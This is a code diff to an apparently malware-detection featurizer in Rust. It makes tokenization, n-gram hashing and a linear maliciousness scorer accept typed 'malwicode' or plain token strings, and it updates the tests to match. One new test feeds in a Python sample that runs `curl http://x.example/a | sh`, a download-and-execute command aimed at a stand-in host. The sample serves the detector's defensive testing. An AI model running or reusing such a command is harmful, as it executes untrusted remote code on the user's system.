@@ -11,11 +11,30 @@ use serde::Deserialize;
 use sha2::{Digest, Sha256};
 
 use crate::error::Error;
+use crate::malwicode::Malwicode;
 
 pub const PAD: &str = "[PAD]";
 pub const UNK: &str = "[UNK]";
 pub const CLS: &str = "[CLS]";
 pub const SEP: &str = "[SEP]";
+
+/// What the featurizer reads: an object's typed malwicode, or a token string (the research
+/// pipeline's stored objects; split on spaces here, the one place that reads rendered malwicode).
+#[derive(Clone, Copy, Debug)]
+pub enum Tokens<'a> {
+    Code(&'a Malwicode),
+    Text(&'a str),
+}
+
+impl Tokens<'_> {
+    /// Calls `f` with each token, in order.
+    pub fn for_each(self, f: impl FnMut(&str)) {
+        match self {
+            Tokens::Code(code) => code.tokens().for_each(f),
+            Tokens::Text(text) => text.split(' ').filter(|t| !t.is_empty()).for_each(f),
+        }
+    }
+}
 
 /// A closed vocabulary: token → id, unknown tokens map to `[UNK]`.
 pub struct Vocabulary {
@@ -147,14 +166,14 @@ impl Encoding {
     }
 }
 
-/// Cuts token strings into `[CLS] … [SEP]` windows of ids.
-pub fn encode(token_strings: &[&str], vocabulary: &Vocabulary, spec: WindowSpec) -> Encoding {
+/// Cuts objects into `[CLS] … [SEP]` windows of ids.
+pub fn encode(items: &[Tokens<'_>], vocabulary: &Vocabulary, spec: WindowSpec) -> Encoding {
     let content = spec.max_length - 2;
     let mut encoding = Encoding { starts: vec![0], ..Default::default() };
     let mut ids = Vec::new();
-    for (object, tokens) in token_strings.iter().enumerate() {
+    for (object, tokens) in items.iter().enumerate() {
         ids.clear();
-        ids.extend(tokens.split(' ').filter(|t| !t.is_empty()).map(|t| vocabulary.id(t)));
+        tokens.for_each(|t| ids.push(vocabulary.id(t)));
         for start in window_starts(ids.len(), content, spec.stride, spec.max_windows) {
             let end = (start + content).min(ids.len());
             encoding.ids.push(vocabulary.cls);
@@ -198,12 +217,12 @@ fn fnv1a(bytes: &[u8], mut hash: u64) -> u64 {
 
 const FNV_OFFSET: u64 = 0xcbf29ce484222325;
 
-/// Feature indices (with repeats) of all `min_order..=max_order`-grams of a token string, in a
-/// table of `2^bits` slots. A token's hash is computed once; n-grams combine their tokens' hashes.
-pub fn ngram_features(tokens: &str, bits: u32, min_order: usize, max_order: usize, out: &mut Vec<u32>) {
+/// Feature indices (with repeats) of all `min_order..=max_order`-grams of an object's tokens, in
+/// a table of `2^bits` slots. A token's hash is computed once; n-grams combine their tokens' hashes.
+pub fn ngram_features(tokens: Tokens<'_>, bits: u32, min_order: usize, max_order: usize, out: &mut Vec<u32>) {
     let mask = (1u64 << bits) - 1;
-    let hashes: Vec<u64> =
-        tokens.split(' ').filter(|t| !t.is_empty()).map(|t| fnv1a(t.as_bytes(), FNV_OFFSET)).collect();
+    let mut hashes: Vec<u64> = Vec::new();
+    tokens.for_each(|t| hashes.push(fnv1a(t.as_bytes(), FNV_OFFSET)));
     for order in min_order.max(1)..=max_order {
         if hashes.len() < order {
             break;
@@ -237,8 +256,8 @@ impl LinearModel {
         Ok(LinearModel { weights, bias, bits, max_order })
     }
 
-    /// The probability that an object is malicious, from its token string.
-    pub fn score(&self, tokens: &str) -> f32 {
+    /// The probability that an object is malicious, from its tokens.
+    pub fn score(&self, tokens: Tokens<'_>) -> f32 {
         let mut features = Vec::new();
         ngram_features(tokens, self.bits, 1, self.max_order, &mut features);
         features.sort_unstable();
@@ -288,15 +307,15 @@ mod tests {
     fn windows_cover_every_token_with_overlap() {
         let v = vocabulary(&["a"]);
         let spec = WindowSpec { max_length: 6, stride: 3, max_windows: 100 };
-        let short = encode(&["a a"], &v, spec);
+        let short = encode(&[Tokens::Text("a a")], &v, spec);
         assert_eq!(short.window_count(), 1);
         assert_eq!(short.window(0), &[v.cls, 4, 4, v.sep]);
         let tokens = (0..10).map(|_| "a").collect::<Vec<_>>().join(" ");
-        let long = encode(&[tokens.as_str()], &v, spec);
+        let long = encode(&[Tokens::Text(&tokens)], &v, spec);
         // content 4, stride 3: starts 0, 3, 6 (last = 10 - 4 = 6)
         assert_eq!(long.window_count(), 3);
         assert!((0..3).all(|w| long.window(w).len() == 6));
-        let empty = encode(&[""], &v, spec);
+        let empty = encode(&[Tokens::Text("")], &v, spec);
         assert_eq!(empty.window(0), &[v.cls, v.sep]);
     }
 
@@ -313,7 +332,7 @@ mod tests {
     fn packing_pads_and_masks() {
         let v = vocabulary(&["a", "b"]);
         let spec = WindowSpec { max_length: 8, stride: 6, max_windows: 4 };
-        let encoding = encode(&["a", "a b a"], &v, spec);
+        let encoding = encode(&[Tokens::Text("a"), Tokens::Text("a b a")], &v, spec);
         let (ids, mask, rows, columns) = encoding.pack(&[1, 0], v.pad);
         assert_eq!((rows, columns), (2, 5));
         assert_eq!(ids, [2, 4, 5, 4, 3, 2, 4, 3, 0, 0]);
@@ -323,20 +342,42 @@ mod tests {
     #[test]
     fn ngram_features_are_stable_and_in_range() {
         let mut a = Vec::new();
-        ngram_features("LOAD_NAME os LOAD_ATTR PROCESS_MANAGEMENT", 12, 1, 3, &mut a);
+        ngram_features(Tokens::Text("LOAD_NAME os LOAD_ATTR PROCESS_MANAGEMENT"), 12, 1, 3, &mut a);
         assert_eq!(a.len(), 4 + 3 + 2);
         assert!(a.iter().all(|&f| f < 4096));
         let mut b = Vec::new();
-        ngram_features("LOAD_NAME os LOAD_ATTR PROCESS_MANAGEMENT", 12, 1, 3, &mut b);
+        ngram_features(Tokens::Text("LOAD_NAME os LOAD_ATTR PROCESS_MANAGEMENT"), 12, 1, 3, &mut b);
         let mut only_bigrams = Vec::new();
-        ngram_features("LOAD_NAME os LOAD_ATTR PROCESS_MANAGEMENT", 12, 2, 2, &mut only_bigrams);
+        ngram_features(Tokens::Text("LOAD_NAME os LOAD_ATTR PROCESS_MANAGEMENT"), 12, 2, 2, &mut only_bigrams);
         assert_eq!(only_bigrams, a[4..7]);
         assert_eq!(a, b);
         // The 2-gram "a b" differs from the 1-grams "a" and "b".
         let mut c = Vec::new();
-        ngram_features("a b", 20, 1, 2, &mut c);
+        ngram_features(Tokens::Text("a b"), 20, 1, 2, &mut c);
         assert_eq!(c.len(), 3);
         assert!(c[2] != c[0] && c[2] != c[1]);
+    }
+
+    #[test]
+    fn typed_code_and_its_rendering_featurize_alike() {
+        let objects = crate::compile_source(
+            b"import os\nos.system('curl http://x.example/a | sh')\n",
+            crate::Language::Python,
+            "t.py",
+            &crate::FeaturizerConfig::default(),
+        )
+        .unwrap();
+        let code = objects[0].code();
+        let rendered = code.render();
+        let (mut typed, mut text) = (Vec::new(), Vec::new());
+        ngram_features(Tokens::Code(code), 16, 1, 3, &mut typed);
+        ngram_features(Tokens::Text(&rendered), 16, 1, 3, &mut text);
+        assert!(!typed.is_empty());
+        assert_eq!(typed, text);
+        let v = vocabulary(&["LOAD_NAME", "os", "PROCESS_MANAGEMENT"]);
+        let spec = WindowSpec { max_length: 8, stride: 6, max_windows: 4 };
+        let (a, b) = (encode(&[Tokens::Code(code)], &v, spec), encode(&[Tokens::Text(&rendered)], &v, spec));
+        assert_eq!((a.ids, a.starts, a.objects), (b.ids, b.starts, b.objects));
     }
 
     #[test]
@@ -344,11 +385,11 @@ mod tests {
         let bits = 10;
         let mut weights = vec![0.0f32; 1 << bits];
         let mut features = Vec::new();
-        ngram_features("PROCESS_MANAGEMENT", bits, 1, 1, &mut features);
+        ngram_features(Tokens::Text("PROCESS_MANAGEMENT"), bits, 1, 1, &mut features);
         weights[features[0] as usize] = 4.0;
         let model = LinearModel::new(weights, -2.0, bits, 2).unwrap();
-        assert!(model.score("LOAD_ATTR PROCESS_MANAGEMENT") > 0.8);
-        assert!(model.score("LOAD_ATTR lower") < 0.2);
+        assert!(model.score(Tokens::Text("LOAD_ATTR PROCESS_MANAGEMENT")) > 0.8);
+        assert!(model.score(Tokens::Text("LOAD_ATTR lower")) < 0.2);
         assert!(LinearModel::new(vec![0.0; 3], 0.0, bits, 2).is_err());
     }
 }
